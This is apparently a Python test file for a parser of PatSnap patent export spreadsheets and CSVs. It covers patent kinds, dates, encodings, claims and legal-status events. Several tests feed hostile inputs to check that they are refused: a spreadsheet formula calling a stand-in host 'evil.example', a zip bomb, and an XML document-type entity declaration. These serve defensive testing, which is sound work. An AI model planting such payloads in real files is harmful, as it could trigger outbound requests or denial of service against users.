import io
import zipfile
from collections.abc import Sequence
from datetime import date, datetime
from pathlib import Path

import openpyxl
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from maodun.domain.errors import BadRecord
from maodun.domain.records import EventKind, Read, StatusEvent
from maodun.domain.rights import Right, RightKind, Stage
from maodun.sources.patsnap.parse import parse, sniff
from maodun.sources.patsnap.status import status_event

GOLDEN = Path(__file__).parents[1] / "golden" / "patsnap" / "export.raw.csv"
ENGLISH = ["Publication Number", "Title", "Filing Date", "Publication Date", "Patent Type"]


def read(data: bytes, start: int = 0) -> list[Read]:
    return list(parse(io.BytesIO(data), file="export", start=start, sample=False))


def workbook(*rows: Sequence[object]) -> bytes:
    book = openpyxl.Workbook()
    sheet = book.worksheets[0]
    for row in rows:
        sheet.append(list(row))
    held = io.BytesIO()
    book.save(held)
    return held.getvalue()


def rights(data: bytes) -> list[Right]:
    return [one.record for one in read(data) if isinstance(one.record, Right)]


def test_kinds_and_stages_come_from_number_or_type() -> None:
    assert [
        (one.publication_number, one.kind, one.stage) for one in rights(GOLDEN.read_bytes())
    ] == [
        ("CN299999999B", RightKind.PATENT, Stage.GRANT),
        ("CN399999999U", RightKind.UTILITY_MODEL, Stage.GRANT),
        ("CN399999998S", RightKind.DESIGN, Stage.GRANT),
        ("EP9999999A1", RightKind.PATENT, Stage.APPLICATION),
    ]


def test_values_joined_by_a_bar_are_several() -> None:
    first = rights(GOLDEN.read_bytes())[0]
    assert [party.name for party in first.named("assignee")] == ["奎洛示例公司", "奎洛二号公司"]
    assert [(one.symbol, one.main) for one in first.classes] == [
        ("A01K 5/01", True),
        ("A01K 7/00", False),
    ]


def test_claims_are_cut_at_numbers_in_order() -> None:
    first = rights(GOLDEN.read_bytes())[0]
    assert [(one.number, one.text) for one in first.claims] == [
        (1, "一种碗,包括壁和3. 5mm的环。"),
        (2, "根据权利要求1所述的碗。"),
    ]


def test_each_row_has_the_language_of_its_text() -> None:
    assert [one.language for one in rights(GOLDEN.read_bytes())] == ["zh-Hans"] * 3 + ["en"]


def test_a_lapsed_right_gets_an_event_and_a_living_one_none() -> None:
    events = [r.record for r in read(GOLDEN.read_bytes()) if isinstance(r.record, StatusEvent)]
    assert [(one.publication_number, one.kind, one.value) for one in events] == [
        ("CN399999999U", EventKind.LAPSED, "未缴年费 | 授权")
    ]


def test_bad_rows_are_said() -> None:
    bad = [one.record for one in read(GOLDEN.read_bytes()) if isinstance(one.record, BadRecord)]
    assert len(bad) == 2
    assert "someday" in str(bad[0])
    assert bad[0].number == "CN209999990A"


@pytest.mark.parametrize("encoding", ["utf-8", "utf-8-sig", "gbk", "gb18030", "utf-16"])
def test_every_encoding_of_an_export_reads_the_same(encoding: str) -> None:
    data = GOLDEN.read_text(encoding="utf-8").encode(encoding)
    assert sniff("export.csv", data)
    assert [one.title for one in rights(data)] == [
        one.title for one in rights(GOLDEN.read_bytes())
    ]


@pytest.mark.parametrize(
    "day",
    [
        pytest.param(datetime(2099, 3, 1), id="day of the workbook"),  # noqa: DTZ001 - as stored
        pytest.param(20990301, id="whole number"),
        pytest.param("2099-03-01", id="ISO 8601"),
        pytest.param("2099/3/1", id="slashes"),
        pytest.param("2099年3月1日", id="Chinese"),
    ],
)
def test_days_are_read_in_every_form(day: object) -> None:
    (found,) = rights(workbook(ENGLISH, ["CN299999999B", "Bowl", day, None, ""]))
    assert found.filing_date == date(2099, 3, 1)


def test_a_bad_row_of_a_workbook_is_named_by_its_number() -> None:
    _, bad, good = read(
        workbook(
            ENGLISH,
            ["CN299999999B", "Bowl", None, None, ""],
            ["nothing", "Bowl", None, None, ""],
            ["CN299999998B", "Bowl", None, None, ""],
        )
    )
    assert isinstance(bad.record, BadRecord)
    assert (bad.record.offset, bad.next_offset) == (3, 4)
    assert "row 3" in str(bad.record)
    assert isinstance(good.record, Right)


@pytest.mark.parametrize("kind", ["csv", "xlsx"])
def test_reading_resumes_after_every_row(kind: str) -> None:
    rows = [[f"CN29999999{n}B", "Bowl", "", "", ""] for n in range(5)]
    lines = [",".join(str(cell) for cell in row) for row in [ENGLISH, *rows]]
    data = workbook(ENGLISH, *rows) if kind == "xlsx" else "\n".join(lines).encode()
    whole = read(data)
    assert len(whole) == 5
    for index, one in enumerate(whole):
        assert read(data, start=one.next_offset) == whole[index + 1 :]


def test_a_formula_is_not_evaluated() -> None:
    data = workbook(ENGLISH, ["CN299999999B", '=WEBSERVICE("http://evil.example")', "", "", ""])
    (found,) = read(data)
    assert isinstance(found.record, BadRecord)
    assert "no title" in str(found.record)


def test_a_packed_bomb_is_refused() -> None:
    held = io.BytesIO()
    with zipfile.ZipFile(held, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("xl/worksheets/sheet1.xml", b" " * 20_000_000)
    (found,) = read(held.getvalue())
    assert "too much" in str(found.record)


def test_a_workbook_with_a_document_type_is_refused() -> None:
    held = io.BytesIO()
    with (
        zipfile.ZipFile(io.BytesIO(workbook(ENGLISH))) as good,
        zipfile.ZipFile(held, "w") as archive,
    ):
        for name in good.namelist():
            data = good.read(name)
            if name.endswith("workbook.xml"):
                data = b'<!DOCTYPE x [<!ENTITY y "z">]>' + data
            archive.writestr(name, data)
    (found,) = read(held.getvalue())
    assert "document type" in str(found.record)


def test_another_workbook_says_which_columns_are_missing() -> None:
    (found,) = read(workbook(["Name", "Street"], ["A", "B"]))
    assert "公开(公告)号" in str(found.record)


@pytest.mark.parametrize(
    ("simple", "detail", "kind"),
    [
        pytest.param("有效", "未缴年费 | 恢复 | 授权", None, id="history of a living right"),
        pytest.param("有效", "未缴年费 | 授权", None, id="the state today decides"),
        pytest.param("失效", "", EventKind.LAPSED, id="dead without a reason"),
        pytest.param("失效", "撤回-视为撤回", EventKind.LAPSED, id="deemed withdrawn"),
        pytest.param("失效", "全部无效", EventKind.REVOKED, id="invalidated"),
        pytest.param("", "驳回", EventKind.LAPSED, id="refused, no simple status"),
        pytest.param("", "部分无效", None, id="invalidated in part"),
        pytest.param("", "未缴年费 | 恢复", None, id="paid again"),
        pytest.param("审中", "实质审查", None, id="pending"),
        pytest.param("Inactive", "Non-payment", EventKind.LAPSED, id="English"),
        pytest.param("Active", "Granted", None, id="English, alive"),
        pytest.param("", "", None, id="nothing said"),
    ],
)
def test_only_the_end_of_a_right_is_an_event(
    simple: str, detail: str, kind: EventKind | None
) -> None:
    found = status_event(simple, detail)
    assert (found[0] if found else None) == kind


@given(st.lists(st.tuples(st.integers(0, 20_000), st.binary(max_size=6)), max_size=8))
@settings(deadline=None, max_examples=40)
def test_damaged_workbooks_never_stop_reading(damage: list[tuple[int, bytes]]) -> None:
    for good in (BOOK, GOLDEN.read_bytes()):
        data = bytearray(good)
        for place, piece in damage:
            data[place % len(data) : place % len(data) + len(piece)] = piece
        for one in read(bytes(data)):
            assert isinstance(one.record, Right | StatusEvent | BadRecord)


BOOK = workbook(ENGLISH, ["CN299999999B", "Bowl", 20990301, None, "授权发明"])
